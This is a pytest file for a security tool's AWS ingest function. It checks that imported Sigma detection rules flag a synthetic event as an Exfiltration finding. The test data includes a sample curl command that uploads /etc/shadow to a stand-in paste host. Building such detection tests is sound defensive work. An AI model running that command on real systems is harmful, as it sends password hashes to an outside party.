"""Imported Sigma rules run in IngestFunction beside the native detections.

GIVEN a bundle compiled by `vigil sigma import` from the test rules (tests/data/sigma), WHEN the
ingest starts with it and receives a batch whose curl exec matches one of them, THEN the finding
is stored under the rule's tactic type with the Sigma id; a bundle that cannot be read fails the
cold start with its reason instead of running without its rules.
"""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any

import pytest
from handler_harness import Aws, context, ingest_env, kinesis_event_for, load_handler
from typer.testing import CliRunner

from vigil import sample as s
from vigil import wire
from vigil_aws.findings_store import document
from vigil_aws.sigma_rules import BUNDLE_ENV
from vigil_cli.main import app

pytest.importorskip("sigma")

RULES = Path(__file__).resolve().parents[2] / "tests" / "data" / "sigma"
INSTANCE = "i-0aaaaaaaaaaaaaaa1"


def _bundle(tmp_path: Path) -> Path:
    out = tmp_path / "bundle.json"
    res = CliRunner().invoke(app, ["sigma", "import", str(RULES), "--out", str(out), "--no-benign"])
    assert res.exit_code == 0, res.output
    return out


def _batch() -> bytes:
    shell = s.proc("/bin/bash", parent=s.proc("/usr/sbin/sshd", pid=900, uid=0))
    curl = s.proc("/usr/bin/curl", "-F", "f=@/etc/shadow", "https://paste.example.invalid/", parent=shell)
    host = wire.Host(instance_id=INSTANCE, account_id="123456789012", region="us-east-1")
    return gzip.compress(
        wire.encode_event(wire.ProcessExec(time=s.T0, seq=1, host=host, process=curl)) + b"\n"
    )


def test_the_ingest_runs_the_imported_rules(
    aws: Aws, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    env = ingest_env(aws) | {BUNDLE_ENV: str(_bundle(tmp_path))}
    ingest: Any = load_handler("ingest_function", env, monkeypatch)
    response = ingest.handler(kinesis_event_for([(INSTANCE, _batch())]), context("IngestFunction"))
    assert response == {"batchItemFailures": []}
    docs = [document(i) for i in aws.findings().values()]
    sigma = [d for d in docs if d["type"].endswith("/SigmaRule")]
    assert [d["type"] for d in sigma] == ["Exfiltration:Runtime/SigmaRule"]
    info = json.loads(sigma[0]["service"]["additionalInfo"]["value"])
    assert info["sigma"]["id"].endswith("000000000001") and info["identityVerified"] is True


def test_a_missing_bundle_fails_the_cold_start(
    aws: Aws, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    env = ingest_env(aws) | {BUNDLE_ENV: str(tmp_path / "absent.json")}
    with pytest.raises(FileNotFoundError):
        load_handler("ingest_function", env, monkeypatch)
